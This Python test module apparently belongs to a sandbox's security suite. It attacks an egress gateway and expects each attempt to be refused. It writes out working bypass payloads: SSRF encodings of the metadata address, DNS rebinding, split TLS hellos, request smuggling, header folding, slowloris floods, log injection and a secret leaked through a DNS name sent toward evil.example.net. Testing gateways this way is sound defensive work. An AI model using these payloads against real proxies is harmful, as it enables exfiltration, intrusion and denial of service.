"""Exfiltration through the gateway, by tricks: what it refuses, and where the words of client and host part ways."""

from __future__ import annotations

import os
import re
import socket
import time

from tests.attacks.inside.network import METADATA, OTHER, PRIVATE, SERVER
from tests.attacks.inside.record import EXFILTRATION, EXHAUSTION, TAMPERING, attack, held, won

BY_NAME = "the gateway's rules: only what the profile lists, by name and port"
BY_ADDRESS = "the gateway checks every address that it connects to"
ONE_SPELLING = "the gateway accepts names in one spelling only, and no addresses"
SAME_WORDS = "the gateway rewrites each request from its own parse"
CLOSED = "closed without a word"
PATIENCE = 4.0
TCP_OF_HOST = 5998


def _at() -> str:
    """Where the gateway is: listed names lead to it. In the weak sandbox, one that trusts everybody."""
    return os.environ.get("GATEWAY") or socket.gethostbyname("api.example.com")


def _gateway(port: int = 80) -> socket.socket:
    return socket.create_connection((_at(), port), timeout=PATIENCE)


def _read(sock: socket.socket) -> bytes:
    data = b""
    try:
        while piece := sock.recv(65536):
            data += piece
            if b"served by" in data and len(data) > 4000:
                break
    except OSError:
        pass
    return data


def ask(request: bytes, port: int = 80) -> bytes:
    """Send a request, and read what comes until the end."""
    with _gateway(port) as sock:
        sock.sendall(request)
        return _read(sock)


def _first_line(data: bytes) -> str:
    return data.partition(b"\r\n")[0].decode("latin-1") or CLOSED


def _sized(data: bytes, size: int) -> bytes:
    return len(data).to_bytes(size, "big") + data


def hello(name: str | None) -> bytes:
    """What TLS begins with, whatever the name."""
    named = b"\0" + _sized((name or "").encode("latin-1"), 2)
    extensions = b"\0\0" + _sized(_sized(named, 2), 2) if name is not None else b"\0\x17\0\0"
    body = b"\x03\x03" + bytes(32) + b"\0" + _sized(b"\x13\x01", 2) + _sized(b"\0", 1) + _sized(extensions, 2)
    return b"\x16\x03\x01" + _sized(b"\x01" + _sized(body, 3), 2)


def reach(target: str, first: bytes | None = None) -> str:
    """Name a host to the gateway, in TLS on port 443 and else in a plain request; won if anybody is there."""
    host, _, port = target.rpartition(":")
    if first is None:
        plain = f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode("latin-1")
        first = hello(host) if port == "443" else plain
    try:
        answer = ask(first, int(port))
    except ConnectionRefusedError:
        return held("ECONNREFUSED")
    return won(f"{target}: {_served(answer)}") if b"served by" in answer else held(_first_line(answer))


def _served(answer: bytes) -> str:
    found = re.search(rb"served by ([^\n]*)", answer)
    return found[1].decode("latin-1") if found else ""


def reach_any(*targets: str) -> str:
    """The first that wins; else what was said to all of them."""
    said = [reach(target) for target in targets]
    return next((one for one in said if not one.startswith("held")), held("; ".join(one[6:] for one in said)))


# -- who may be asked for -------------------------------------------------------------------------------------------


@attack(EXFILTRATION, BY_NAME, CLOSED, cage="allow")
def a_host_that_is_not_listed() -> str:
    """ask the gateway for a host that the profile does not list"""
    return reach("evil.example.net:443")


@attack(EXFILTRATION, BY_NAME, "ECONNREFUSED; ECONNREFUSED", cage="allow")
def another_port_of_an_allowed_host() -> str:
    """an allowed host, on another port"""
    return reach_any("api.example.com:8443", "api.example.com:22")


@attack(EXFILTRATION, BY_NAME, f"{CLOSED}; {CLOSED}", cage="allow", control="only this test's names exist")
def names_that_look_alike() -> str:
    """hosts whose names begin or end as allowed ones do"""
    return reach_any(
        "api.example.com.evil.example.net:443", "xmodels.example.org:443", "models.example.org:443",
        "a.api.example.com:443", "api-example.com:443",
    )  # fmt: skip


@attack(EXFILTRATION, ONE_SPELLING, f"{CLOSED}; {CLOSED}", cage="allow")
def a_host_behind_a_user() -> str:
    """a denied host behind an allowed name as its user (allowed@denied)"""
    return reach_any("api.example.com:443@evil.example.net:443", "api.example.com@evil.example.net:443")


@attack(EXFILTRATION, ONE_SPELLING, f"{CLOSED}; {CLOSED}", cage="allow")
def a_name_with_a_hidden_end() -> str:
    """a name that ends early for one reader and late for another (NUL, and space)"""
    return reach_any("evil.example.net\0:443", "evil.example.net\0.models.example.org:443")


@attack(EXFILTRATION, ONE_SPELLING, f"{CLOSED}; {CLOSED}", cage="allow")
def a_name_with_a_dot_at_its_end() -> str:
    """a denied and an allowed host in their absolute form, with a dot at the end"""
    return reach_any("evil.example.net.:443", "api.example.com.:443")


@attack(EXFILTRATION, f"{BY_NAME}: letters' case makes no difference", CLOSED, cage="allow")
def a_name_in_other_letters() -> str:
    """a denied host in capitals"""
    return reach("EVIL.Example.NET:443")


@attack(EXFILTRATION, "destinations are names: an address does not identify who answers", f"{CLOSED}; {CLOSED}",
        cage="allow")  # fmt: skip
def an_allowed_hosts_address() -> str:
    """the address of an allowed host, and of a denied one"""
    return reach_any(f"{SERVER}:443", f"{OTHER}:443")


# -- metadata and private addresses ---------------------------------------------------------------------------------


@attack(EXFILTRATION, ONE_SPELLING, "HTTP/1.1 403", cage="allow")
def metadata_by_address() -> str:
    """the metadata service's address through the gateway"""
    return reach_any(f"{METADATA}:80", f"{METADATA}:443")


@attack(EXFILTRATION, ONE_SPELLING, "403.*; .*403.*; .*403.*; .*403.*; .*403", cage="allow")
def metadata_in_other_spellings() -> str:
    """that address as one number, in hex, in octal, and with parts left out"""
    return reach_any(
        "2852039166:80", "0xa9fea9fe:80", "0251.0376.0251.0376:80", "169.254.43518:80", "0xa9.0xfe.43518:80"
    )


@attack(EXFILTRATION, ONE_SPELLING, "40[03].*; .*40[03]", cage="allow")
def metadata_in_ipv6() -> str:
    """that address inside an IPv6 address"""
    return reach_any(f"[::ffff:{METADATA}]:80", "[::ffff:a9fe:a9fe]:80")


@attack(EXFILTRATION, BY_ADDRESS, CLOSED, cage="allow")
def a_name_that_leads_to_metadata() -> str:
    """an allowed name whose owner points it at the metadata service (rebinding)"""
    return reach("metadata.example.com:443")


@attack(EXFILTRATION, BY_ADDRESS, CLOSED, cage="allow")
def a_name_that_leads_to_private_addresses() -> str:
    """an allowed name that resolves into the private network"""
    return reach("private.example.com:443")


@attack(EXFILTRATION, BY_ADDRESS, CLOSED, cage="allow",
        control="nothing listens there on the ports of allowed names")  # fmt: skip
def a_name_that_leads_to_the_gateway_itself() -> str:
    """an allowed name that resolves to the gateway's own loopback"""
    return reach("loopback.example.com:443")


@attack(EXFILTRATION, BY_ADDRESS, CLOSED, cage="allow")
def a_name_that_leads_to_the_host() -> str:
    """an allowed name that resolves to the host's own services"""
    return reach(f"host.example.com:{TCP_OF_HOST}", b"x")


@attack(EXFILTRATION, BY_ADDRESS, CLOSED, cage="allow", control="without IPv6 nothing answers")
def a_name_that_leads_to_a_mapped_address() -> str:
    """an allowed name whose IPv6 address holds the metadata service's"""
    return reach("mapped.example.com:443")


# -- the gateway as somebody's way in -------------------------------------------------------------------------------


@attack(EXFILTRATION, ONE_SPELLING, "403.*; .*403.*; .*403", cage="allow")
def the_gateway_through_itself() -> str:
    """ask the gateway for what listens on its own machine, to bypass its first check"""
    hosts = ("127.0.0.1", "localhost", _at())
    said = [reach("x:80", _plain_for(f"{host}:{TCP_OF_HOST}")) for host in hosts]
    return next((one for one in said if not one.startswith("held")), held("; ".join(said)))


def _plain_for(host: str) -> bytes:
    return f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode("latin-1")


@attack(EXFILTRATION, ONE_SPELLING, "403", cage="allow")
def another_gateway_through_this_one() -> str:
    """ask the gateway for another sandbox's"""
    address = os.environ["NEIGHBOUR_GATEWAY"].split()[0]
    return reach("x:80", _plain_for(f"{address}:{os.environ['NEIGHBOUR_PORT']}"))


@attack(EXFILTRATION, "the gateway is no proxy: CONNECT is not answered", "HTTP/1.1 40[03]", cage="allow")
def a_tunnel_by_connect() -> str:
    """ask for a tunnel, as a proxy's client would"""
    with _gateway() as sock:
        sock.sendall(b"CONNECT evil.example.net:443 HTTP/1.1\r\nHost: evil.example.net:443\r\n\r\n")
        answer = _read(sock)
    return won(_served(answer)) if b"served by" in answer else held(_first_line(answer))


@attack(EXFILTRATION, "each request must name its host, once", "HTTP/1.1 400", cage="allow")
def a_request_that_names_no_host() -> str:
    """a request without a host, which a careless gateway sends to where it sent the last one"""
    return reach("x:80", b"GET / HTTP/1.1\r\nConnection: close\r\n\r\n")


@attack(EXFILTRATION, "the gateway speaks http:// and nothing else", "HTTP/1.1 40[03]", cage="allow",
        control="nothing in the weak sandbox opens files")  # fmt: skip
def other_schemes() -> str:
    """have the gateway read its own files, or speak other protocols (file:, ftp:, gopher:)"""
    said = [ask(f"GET {url} HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n".encode()) for url in (
        "file:///etc/sandboxrun/rules.json", "ftp://api.example.com/", "gopher://api.example.com:80/_x",
        "https://evil.example.net/",
    )]  # fmt: skip
    served = [one for one in said if b" 200 " in one.partition(b"\r\n")[0]]
    return won(served) if served else held("; ".join(map(_first_line, said)))


# -- where readings part ways ---------------------------------------------------------------------------------------


@attack(EXFILTRATION, "TLS must name a listed host, wherever the client went for it", CLOSED, cage="allow")
def tls_for_another_host() -> str:
    """the address of an allowed name, and TLS for another host behind it"""
    return reach("api.example.com:443", hello("evil.example.net"))


def _hello_in_two_records(shown: bytes, meant: bytes) -> bytes:
    """It names `meant`. Whoever takes the second record's head for a part of it finds `shown`, five bytes early."""
    listed = len(shown) + 3
    filler = bytes(20) + b"\0\0" + (listed + 2).to_bytes(2, "big") + listed.to_bytes(2, "big")[:1]
    others = b"\x12\x34" + _sized(filler, 2) + bytes([listed & 0xFF, 0]) + _sized(shown, 2)
    extensions = others + b"\0\0" + _sized(_sized(b"\0" + _sized(meant, 2), 2), 2)
    body = b"\x03\x03" + bytes(32) + b"\0" + _sized(b"\x13\x01", 2) + _sized(b"\0", 1) + _sized(extensions, 2)
    whole = b"\x01" + _sized(body, 3)
    cut = whole.index(filler) + 5
    return b"".join(b"\x16\x03\x01" + _sized(part, 2) for part in (whole[:cut], whole[cut:]))


@attack(EXFILTRATION, "a TLS hello must be one whole record", CLOSED, cage="allow")
def tls_that_is_read_in_two_ways() -> str:
    """TLS that names an allowed host for one reader and another site of its server for the other, over two records"""
    return reach("api.example.com:443", _hello_in_two_records(b"api.example.com", b"evil.example.net"))


@attack(EXFILTRATION, "TLS must name a listed host", CLOSED, cage="allow")
def tls_for_nobody() -> str:
    """TLS that names no host"""
    return reach("api.example.com:443", hello(None))


@attack(EXFILTRATION, "port 443 carries TLS only", CLOSED, cage="allow")
def no_tls_on_443() -> str:
    """another protocol on port 443"""
    return reach("api.example.com:443", b"SSH-2.0-agent\r\n")


def _plain(request: bytes, mark: bytes) -> str:
    """Won if the mark gets to the host in the words of the request."""
    answer = ask(request)
    reached = answer.partition(b"served by")[2].partition(b"HTTP/1.1 403")[0]
    return won(reached[:200]) if mark in reached else held(_first_line(answer))


@attack(EXFILTRATION, "the Host field must be the target's", "HTTP/1.1 400", cage="allow")
def another_host_field() -> str:
    """an allowed target, and a Host field that names another site of the same server"""
    request = b"GET http://api.example.com/ HTTP/1.1\r\nHost: evil.example.net\r\nConnection: close\r\n\r\n"
    return _plain(request, b"evil.example.net")


@attack(EXFILTRATION, SAME_WORDS, "HTTP/1.1 400", cage="allow")
def two_host_fields() -> str:
    """two Host fields, of which one parser uses the first and another the last"""
    request = b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nHost: evil.example.net\r\n\r\n"
    return _plain(request, b"evil.example.net")


@attack(EXFILTRATION, SAME_WORDS, "HTTP/1.1 (200|400)", cage="allow")
def two_lengths() -> str:
    """a second request hidden in the first one's body (Content-Length and Transfer-Encoding)"""
    hidden = b"0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example.net\r\n\r\n"
    head = b"POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked\r\n"
    return _plain(head + b"Content-Length: %d\r\n\r\n%s" % (len(hidden), hidden), b"evil.example.net")


@attack(EXFILTRATION, "neither CONNECT nor TRACE, in whatever letters", "HTTP/1.1 403", cage="allow")
def a_method_in_other_letters() -> str:
    """Trace, which some servers take for TRACE, to read what is added to a request on its way"""
    return _plain(b"Trace / HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n", b"Trace /")


@attack(EXFILTRATION, SAME_WORDS, "HTTP/1.1 (400|505)|closed", cage="allow")
def an_old_protocol() -> str:
    """HTTP/0.9, which has no fields to look at"""
    return _plain(b"GET http://evil.example.net/\r\n\r\n", b"evil.example.net")


@attack(EXFILTRATION, SAME_WORDS, "never as it was", cage="allow")
def folded_fields() -> str:
    """a field continued on the next line, and lines that end in a bare LF"""
    request = (
        b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nX: a\r\n Host: evil.example.net\r\n"
        b"Connection: close\r\n\r\n"
    )
    answer = ask(request)
    folded = b"\r\n Host: evil" in answer.partition(b"served by")[2]
    bare = b"GET http://api.example.com/ HTTP/1.1\nHost: api.example.com\nX: a\rHost: evil.example.net\n"
    other = ask(bare + b"Connection: close\n\n")
    returned = b"\rHost: evil" in other.partition(b"served by")[2]
    return won("as it was") if folded or returned else held("refused, or written anew: never as it was")


@attack(EXFILTRATION, "every request on a connection is checked separately", "HTTP/1.1 403", cage="allow")
def a_second_request_behind_the_first() -> str:
    """a denied request right behind an allowed one, on the same connection"""
    first = b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n"
    second = b"GET http://evil.example.net/ HTTP/1.1\r\nHost: evil.example.net\r\nConnection: close\r\n\r\n"
    with _gateway() as sock:
        sock.sendall(first + second)
        answer = _read(sock)
    if b"GET http://evil" in answer or answer.count(b"served by") > 1:
        return won("it went on")
    return held(re.sub(rb".*(HTTP/1.1 403[^\r]*).*", rb"\1", answer, flags=re.S).decode("latin-1"))


@attack(EXFILTRATION, f"{BY_NAME}; what is refused is never resolved", f"{CLOSED}; {CLOSED}", cage="allow")
def a_secret_in_a_name() -> str:
    """put it into the name of a denied host, so that whoever resolves the name gets it"""
    return reach_any("secret-five.evil.example.net:443", "evil.example.net:443")


# -- wearing it out -------------------------------------------------------------------------------------------------


def _still_serves() -> str:
    answer = ask(b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n")
    return held("it still serves") if b"served by" in answer else won("it serves nobody any more")


AFTER = "the gateway's records show the attack, and its later answers show that it failed"


@attack(EXHAUSTION, "the gateway accepts a limited number at once; the rest wait", "it still serves", cage="allow",
        control=AFTER)  # fmt: skip
def countless_connections() -> str:
    """open connections to the gateway until it is exhausted"""
    kept = []
    for _ in range(300):
        try:
            sock = _gateway()
        except OSError:
            break
        kept.append(sock)
    for sock in kept:
        sock.close()
    return _still_serves()


@attack(EXHAUSTION, "the gateway waits at most ten seconds for a request's head", "it still serves",
        cage="allow", control=AFTER)  # fmt: skip
def a_request_that_never_ends() -> str:
    """send requests so slowly that they never end"""
    kept = [_gateway() for _ in range(30)]
    for sock in kept:
        sock.sendall(b"GET http://api.example.com/ HT")
    said = _still_serves()
    until = time.monotonic() + 14
    closed = 0
    while time.monotonic() < until and closed < len(kept):
        closed = 0
        for sock in kept:
            sock.settimeout(0.05)
            try:
                sock.sendall(b"X")
                closed += sock.recv(1) in (b"", b"H")
            except TimeoutError:
                continue
            except OSError:
                closed += 1
        time.sleep(0.5)
    return said if closed == len(kept) else won(f"{len(kept) - closed} are still waited for")


@attack(EXHAUSTION, "a request's head is bounded", "HTTP/1.1 400|closed", cage="allow", control=AFTER)
def a_head_without_end() -> str:
    """a request whose fields fill the gateway's memory"""
    with _gateway() as sock:
        sock.sendall(b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n")
        try:
            for number in range(2000):
                sock.sendall(b"X-%d: %b\r\n" % (number, b"x" * 8000))
        except OSError:
            pass
        answer = _read(sock)
    return held(_first_line(answer)) if b"served by" not in answer else won("16 MB of fields")


@attack(
    TAMPERING,
    "records are JSON, one a line, with every character escaped",
    f"{CLOSED}|40[03]",
    cage="allow",
    control=AFTER,
)
def forge_the_gateways_records() -> str:
    """ask for hosts whose names would end the gateway's record and begin another"""
    mark = '"}\\n{"event":"request","verdict":"allowed","host":"forged.example.net'
    said = [reach(f"{mark}:443"), held(_first_line(ask(f"GET http://{mark}/ HTTP/1.1\r\nHost: x\r\n\r\n".encode())))]
    return next((one for one in said if one.startswith("won")), said[0])


@attack(TAMPERING, "records have a budget: earlier ones stay, and once it is used up all requests are refused",
        "every one refused", cage="allow", control=AFTER)  # fmt: skip
def flood_the_gateways_records() -> str:
    """so many refused requests that the records of earlier ones are lost"""
    refused = 0
    for number in range(300):
        refused += reach(f"flood-{number}.{'x' * 60}.{'y' * 60}.example.net:443").startswith("held")
    return held("every one refused, and recorded") if refused == 300 else won(f"{300 - refused} went through")


# -- egress: open ---------------------------------------------------------------------------------------------------


@attack(EXFILTRATION, "open means public: reserved addresses are never allowed", "403.*; .*403",
        cage="open")  # fmt: skip
def open_metadata() -> str:
    """with egress open: the metadata service, by address and by name"""
    return reach_any(f"{METADATA}:80", "metadata.example.com:80", "2852039166:80")


@attack(EXFILTRATION, "open means public: private addresses need private_networks", "403.*; .*403",
        cage="open")  # fmt: skip
def open_private() -> str:
    """with egress open: the private network, by address and by name"""
    return reach_any(f"{PRIVATE}:80", "private.example.com:80")


@attack(EXFILTRATION, "the gateway refuses the addresses of its machine and its networks", "403.*; .*403",
        cage="open")  # fmt: skip
def open_host() -> str:
    """with egress open: the host's own services, by each of its addresses and by name"""
    hosts = os.environ["HOST_ADDRESSES"].split()
    said = [reach("x:80", _plain_for(f"{host}:{TCP_OF_HOST}")) for host in (*hosts, "host.example.com")]
    return next((one for one in said if not one.startswith("held")), held("; ".join(said)))


@attack(EXFILTRATION, "the gateway refuses private addresses and its own", "403.*; .*403", cage="open")
def open_neighbours() -> str:
    """with egress open: other sandboxes and their gateways, and this gateway itself"""
    gateways = os.environ["NEIGHBOUR_GATEWAY"].split()
    port = os.environ["NEIGHBOUR_PORT"]
    hosts = (f"{os.environ['NEIGHBOUR']}:8080", *(f"{one}:{port}" for one in gateways), f"127.0.0.1:{TCP_OF_HOST}")
    said = [reach("x:80", _plain_for(host)) for host in hosts]
    return next((one for one in said if not one.startswith("held")), held("; ".join(said)))


@attack(
    EXFILTRATION, "open applies to the gateway, not to the network", "ENETUNREACH|EHOSTUNREACH|no answer", cage="open"
)
def open_straight() -> str:
    """with egress open: straight to a public address, past the gateway and its records"""
    from tests.attacks.inside.network import _tcp

    return _tcp((OTHER, 443), (SERVER, 80))
